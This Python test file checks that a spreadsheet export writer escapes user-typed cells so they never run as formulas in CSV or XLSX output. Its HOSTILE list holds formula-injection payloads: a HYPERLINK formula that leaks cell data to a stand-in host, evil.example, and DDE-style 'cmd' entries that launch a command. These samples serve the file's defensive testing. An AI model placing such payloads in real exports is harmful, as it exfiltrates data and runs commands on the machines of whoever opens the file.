"""The one export writer: no cell a person typed ever runs as a spreadsheet formula."""

import csv
import datetime
import io
from decimal import Decimal

from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook  # type: ignore[import-untyped]

from coproduce.lib import exports

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&B2&D2,"Voucher")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def read_csv(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def xlsx_cells(body: bytes) -> list[object]:
    book = load_workbook(io.BytesIO(body))
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row]


def test_hostile_text_is_kept_as_text_in_a_csv() -> None:
    rows = read_csv(exports.csv_bytes([["name"], *([value] for value in HOSTILE)]))
    assert [row[0] for row in rows[1:]] == ["'" + value for value in HOSTILE]


def test_no_cell_of_a_spreadsheet_is_a_formula() -> None:
    sheet = exports.Sheet("Hostile", [["name"], *([value] for value in HOSTILE)])
    cells = xlsx_cells(exports.xlsx_bytes([sheet]))
    assert [c.data_type for c in cells] == ["s"] * (len(HOSTILE) + 1)  # type: ignore[attr-defined]
    # (XML keeps a carriage return as a line feed, so compare with that in mind.)
    shown = [c.value for c in cells[1:]]  # type: ignore[attr-defined]
    assert shown == ["'" + value.replace("\r", "\n") for value in HOSTILE]


def test_numbers_dates_and_amounts_stay_values_with_their_formats() -> None:
    rows: list[exports.Row] = [
        ["amount", "on", "count"],
        [Decimal("-74.50"), datetime.date(2026, 4, 6), -3],
    ]
    sheet = exports.Sheet("Money", rows, {1: "#,##0.00"})
    book = load_workbook(io.BytesIO(exports.xlsx_bytes([sheet])))
    page = book["Money"]
    assert page.cell(row=2, column=1).value == -74.5
    assert page.cell(row=2, column=1).number_format == "#,##0.00"
    assert page.cell(row=2, column=3).value == -3
    assert read_csv(exports.csv_bytes(rows))[1] == ["-74.50", "2026-04-06", "-3"]


def test_ordinary_text_is_unchanged() -> None:
    assert exports.neutral("Margaret's voucher, please") == "Margaret's voucher, please"
    assert exports.neutral("") == ""
    assert exports.neutral(None) is None


def test_long_sheet_titles_are_cut_to_excels_limit() -> None:
    sheet = exports.Sheet("A title much longer than thirty-one characters", [["x"]])
    book = load_workbook(io.BytesIO(exports.xlsx_bytes([sheet])))
    assert len(book.sheetnames[0]) == exports.SHEET_TITLE_LIMIT


@given(st.text())
def test_whatever_is_typed_never_becomes_a_formula(text: str) -> None:
    value = exports.neutral(text)
    assert isinstance(value, str)
    assert not value.startswith(exports.FORMULA_STARTS)
    assert value.removeprefix("'") == text or value == text


def test_every_spreadsheet_is_written_by_this_writer() -> None:
    """No other module writes CSV or XLSX itself (reading CSV, as loaders do, is fine)."""
    from pathlib import Path

    root = Path(exports.__file__).resolve().parents[1]
    writers = [
        f"{path.relative_to(root)}:{number}"
        for path in root.rglob("*.py")
        if "tests" not in path.parts and path != Path(exports.__file__).resolve()
        for number, line in enumerate(path.read_text().splitlines(), 1)
        if "csv.writer" in line or "csv.DictWriter" in line or "Workbook(" in line
    ]
    assert writers == []
